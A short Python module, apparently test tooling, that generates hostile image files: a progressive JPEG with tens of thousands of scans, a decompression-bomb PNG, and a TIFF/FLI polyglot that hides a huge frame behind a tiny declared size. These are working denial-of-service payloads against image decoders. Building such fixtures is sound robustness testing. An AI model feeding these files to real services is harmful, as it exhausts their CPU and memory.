"Image files that are made to harm whoever decodes them."
import struct
from PIL import Image
from damage import saved

def scan_bomb(side=2000, scans=20_000):
    "A progressive JPEG that goes over all its pixels again and again."
    segment = lambda marker, data: bytes([0xff, marker]) + struct.pack('>H', len(data)+2) + data
    packed = (
        lambda bits: int(bits + '1' * (-len(bits) % 8), 2)
        .to_bytes(-(-len(bits) // 8), 'big')
        .replace(b'\xff', b'\xff\0')
    )
    blocks = (-(-side//8))**2
    start = lambda first, last: segment(0xda, bytes([1, 1, 0, first, last, 0]))
    tables = (
        segment(0xDB, b'\0' + b'\x10' * 64)
        + segment(0xC2, struct.pack('>BHHB', 8, side, side, 1) + b'\1\x11\0')
        + segment(0xC4, b'\0' + bytes([1] + [0] * 15) + b'\0')
        + segment(0xC4, b'\x10' + bytes([1] + [0] * 15) + b'\xe0')
    )
    runs, left = '', blocks # runs of 16,384 to 32,767 blocks without anything
    while left > 0:
        run = max(16384, min(left, 32767))
        runs, left = runs + '0' + format(run-16384, '014b'), left-run
    return (
        b'\xff\xd8'
        + tables
        + start(0, 0)
        + packed('0' * blocks)
        + (start(1, 63) + packed(runs)) * scans
        + b'\xff\xd9'
    )

def one_colour(side, mode='RGB', kind='PNG'):
    "A large image in a small file."
    return saved(Image.new(mode, (side, side)), kind)

def two_in_one(side=13_000, at=0x1af11):
    "A file that is an 8 by 8 TIFF to some, and an FLI animation of `side` by `side` pixels to others."
    head = bytearray(128)
    struct.pack_into('<4sI', head, 0, b'II*\0', at) # bytes 4 and 5 are what FLI begins with
    struct.pack_into('<HHHHHI', head, 6, 1, side, side, 8, 3, 0)
    frame = struct.pack('<IHH', 26, 0xf1fa, 1) + bytes(8) + struct.pack('<IH', 10, 13) + bytes(4)
    tags = [
        (256, 3, 8),
        (257, 3, 8),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, at + 2 + 12 * 9 + 4),
        (277, 3, 1),
        (278, 3, 8),
        (279, 4, 64),
    ]
    table = (
        struct.pack('<H', len(tags))
        + b''.join(struct.pack('<HHII', tag, kind, 1, value) for tag, kind, value in tags)
        + bytes(4)
    )
    return (bytes(head) + frame).ljust(at, b'\0') + table + b'\x80'*64
